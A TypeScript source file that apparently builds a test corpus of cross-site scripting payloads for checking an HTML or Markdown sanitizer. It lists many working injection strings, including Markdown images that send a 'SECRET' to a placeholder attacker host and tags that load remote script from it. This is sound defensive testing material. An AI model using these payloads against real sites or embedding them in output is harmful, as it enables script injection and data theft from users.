/**
 * Strings that have run script, asked the network or broken out of their place somewhere, by class. Each
 * tries to call `alert`, or to reach `evil` (host and port).
 */
export function xssCorpus(evil: string): string[] {
  return [
    ...handlers(),
    ...scripts(evil),
    ...schemes(evil),
    ...mutation(),
    ...foreignElements(evil),
    ...frames(evil),
    ...markdownVectors(evil),
    ...clobbering(),
    ...entities(),
    ...templates(),
    ...network(evil),
    ...breakouts(),
  ];
}

/** OWASP: an element and the event it has by itself, in odd spellings. */
function handlers(): string[] {
  const elements = [
    "img src=x onerror",
    "img src=x: onload",
    "svg onload",
    "body onload",
    "input autofocus onfocus",
    "select autofocus onfocus",
    "textarea autofocus onfocus",
    "video src=x onerror",
    "audio src=x onerror",
    "video><source onerror",
    "details open ontoggle",
    "marquee onstart",
    "object data=x onerror",
    "iframe onload",
    "style onload",
    "a href=# onmouseover",
    "div onpointerenter",
    "x onclick",
    "keygen autofocus onfocus",
    "button popovertarget=x onbeforetoggle",
    "p style=animation:x onanimationstart",
    "dialog open onclose",
  ];
  return elements.flatMap((element) => [
    `<${element}=alert(1)>`,
    `<${element}="alert(1)">`,
    `<${element.replace(/ /g, "/")}=alert(1)//`,
    `<${element.replace(/o(?=n[a-z]+$)/, "O").toUpperCase()}=alert\`1\`>`,
  ]);
}

function scripts(evil: string): string[] {
  const base = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script >alert(1)</script\t\n bar>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>/*<!--*/alert(1)//--></script>",
    "<script type=module>alert(1)</script>",
    "<script type=importmap>{}</script>",
    "<script\u0000>alert(1)</script>",
    "\u0000<script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<script>alert(1)</script foo>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u2028script>alert(1)</script>",
  ];
  return [
    ...base,
    `<script src=http://${evil}/x.js></script>`,
    `<script src=//${evil}/x.js></script>`,
    `<script async src="data:,alert(1)"></script>`,
  ];
}

/** Addresses that a link must not have, written as links and as raw HTML. */
function schemes(evil: string): string[] {
  const addresses = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#x6a;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "\u0001javascript:alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:alert(1)",
    "vscode://x",
    "blob:null/x",
    "filesystem:x",
    "view-source:x",
    `//${evil}/x`,
    `\\\\${evil}\\x`,
    `https:${evil}`,
    `https://bank.test@${evil}/`,
    "about:blank#<script>",
  ];
  return addresses.flatMap((address) => [
    `[a](${address})`,
    `[a](<${address}>)`,
    `[a][r${address.length}]\n\n[r${address.length}]: ${address}`,
    `<a href="${address}">a</a>`,
  ]);
}

/** What one parser reads as text and the next as an element. */
const mutation = (): string[] => [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "<table><td><svg><desc><td></desc><img src=x onerror=alert(1)>",
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<select><template><img src=x onerror=alert(1)></template></select>",
  "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><img src=x onerror=alert(1)>",
  '<a title="`<img src=x onerror=alert(1)>`">',
  '<img alt="``onerror=alert(1)">',
  '<style><img title="</style><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  "<annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml>",
  '<b><p title="</b><img src=x onerror=alert(1)>">',
];

const foreignElements = (evil: string): string[] => [
  "<svg><script>alert(1)</script></svg>",
  "<svg><script href=data:,alert(1) /></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><set attributeName=href to=javascript:alert(1)>",
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  `<svg><image href=http://${evil}/x.svg /></svg>`,
  `<svg><use href="http://${evil}/x.svg#x"/></svg>`,
  `<svg><filter><feImage href=http://${evil}/x></filter></svg>`,
  "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
  "<svg><style>*{background:url(javascript:alert(1))}</style></svg>",
  "<svg><discard onbegin=alert(1)>",
  "<math href=javascript:alert(1)>x</math>",
  "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
  "<math><annotation-xml><script>alert(1)</script></annotation-xml></math>",
];

const frames = (evil: string): string[] => [
  '<iframe><img title="</iframe><img src=x onerror=alert(1)>">',
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<iframe src=javascript:parent.alert(1)></iframe>",
  `<iframe src=http://${evil}/x></iframe>`,
  `<object data=http://${evil}/x></object>`,
  `<embed src=http://${evil}/x>`,
  "<object data='data:text/html,<script>parent.alert(1)</script>'></object>",
  `<frameset><frame src=http://${evil}/x></frameset>`,
  `<portal src=http://${evil}/x></portal>`,
  `<fencedframe src=http://${evil}/x></fencedframe>`,
];

const markdownVectors = (evil: string): string[] => [
  `![x](http://${evil}/?q=SECRET)`,
  `![x](//${evil}/?q=SECRET)`,
  `![x][i]\n\n[i]: http://${evil}/?q=SECRET`,
  `[![x](http://${evil}/?q=SECRET)](http://${evil}/?r=SECRET)`,
  `![x](http://${evil}/x "onload=alert(1)")`,
  `!["onerror="alert(1)](http://${evil}/x)`,
  `![x](x"onerror="alert(1))`,
  `[x](http://${evil}/" onmouseover="alert(1))`,
  `<http://${evil}/"onmouseover="alert(1)>`,
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  "[a](javascript:alert(1) 'title')",
  "`</code><script>alert(1)</script>`",
  '```"><script>alert(1)</script>\nx\n```',
  "```html\n<script>alert(1)</script>\n</code></pre><img src=x onerror=alert(1)>\n```",
  "~~~\n</pre><svg onload=alert(1)>\n~~~",
  "    <img src=x onerror=alert(1)>",
  "| <img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |",
  "> <img src=x onerror=alert(1)>\n> - <svg onload=alert(1)>",
  "- [ ] <input autofocus onfocus=alert(1)>",
  "# <img src=x onerror=alert(1)> {#x onclick=alert(1)}",
  "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
  "***<img src=x onerror=alert(1)>***",
  "\\<img src=x onerror=alert(1)>",
  "<details><summary>x</summary>\n\n<img src=x onerror=alert(1)>\n\n</details>",
  "$$\\href{javascript:alert(1)}{x}$$",
  `$$\\includegraphics{http://${evil}/x}$$`,
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]-->B; click A href "javascript:alert(1)"\n\`\`\``,
  ":::html\n<script>alert(1)</script>\n:::",
];

const clobbering = (): string[] =>
  [
    "__NEXT_DATA__",
    "body",
    "self",
    "top",
    "document",
    "location",
    "cookie",
    "createElement",
    "defaultView",
    "nonce",
  ].flatMap((name) => [
    `<img name=${name}>`,
    `<form id=${name}><input name=attributes></form>`,
    `<a id=${name} href=javascript:alert(1)>x</a>`,
  ]);

const entities = (): string[] => [
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "&#x3c;svg onload=alert(1)&#x3e;",
  "&amp;lt;script&amp;gt;alert(1)",
  "&NewLine;&Tab;<img src=x onerror=&#97;lert(1)>",
  "<img src=x onerror=&#0000097&#0000108ert(1)>",
  "&#0;<script>alert(1)</script>",
  "&#x110000;<img src=x onerror=alert(1)>",
  "&nvlt;img src=x onerror=alert(1)>",
  "&lt<img src=x onerror=alert(1)>",
];

/** For whatever would be put into a template, or into the state that a page carries along. */
const templates = (): string[] => [
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "#{alert(1)}",
  "<%= alert(1) %>",
  "{%raw%}<script>alert(1)</script>",
  "'+alert(1)+'",
  '"-alert(1)-"',
  "`-alert(1)-`",
  "*/alert(1)/*",
  "\\u003cimg src=x onerror=alert(1)\\u003e",
  "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
  '{"$$typeof":"react.element","type":"script"}',
  '["$","script",null,{"children":"alert(1)"}]',
  '1:I["x"]\n2:D{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}',
  "$undefined $L1 $@1 $F1",
  "\u2028alert(1)\u2029",
];

const network = (evil: string): string[] => [
  `<img src=http://${evil}/x>`,
  `<img srcset="http://${evil}/x 1x, http://${evil}/y 2x">`,
  `<picture><source srcset="http://${evil}/x"><img></picture>`,
  `<div style="background:url(http://${evil}/x)">`,
  `<style>@import "http://${evil}/x";</style>`,
  `<style>@font-face{font-family:x;src:url(http://${evil}/x)}*{font-family:x}</style>`,
  `<link rel=stylesheet href=http://${evil}/x>`,
  `<link rel=preload as=image href=http://${evil}/x>`,
  `<link rel=prefetch href=http://${evil}/x>`,
  `<link rel=dns-prefetch href=http://${evil}/>`,
  `<link rel=preconnect href=http://${evil}/>`,
  `<link rel=icon href=http://${evil}/x>`,
  `<link rel=manifest href=http://${evil}/x>`,
  `<meta http-equiv=refresh content="0;url=http://${evil}/x">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<base href=http://${evil}/>`,
  `<video poster=http://${evil}/x src=http://${evil}/y autoplay>`,
  `<track src=http://${evil}/x>`,
  `<input type=image src=http://${evil}/x>`,
  `<table background=http://${evil}/x>`,
  `<form action=http://${evil}/x><input autofocus></form>`,
  `<a ping=http://${evil}/x href=/>x</a>`,
];

/** Out of an attribute, a tag, a comment, a sentence in another direction. */
const breakouts = (): string[] => [
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  "` onload=alert(1)",
  "/><img src=x onerror=alert(1)>",
  "</h2></article></main><script>alert(1)</script>",
  "</span></button><img src=x onerror=alert(1)>",
  "\u202E<gmi src=x onerror=alert(1)>",
  "<img src=x onerror\u00a0=alert(1)>",
  "<\u00adscript>alert(1)</script>",
  "x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
  "data: {}\n\nevent: x\ndata: <script>alert(1)</script>\n\n",
];
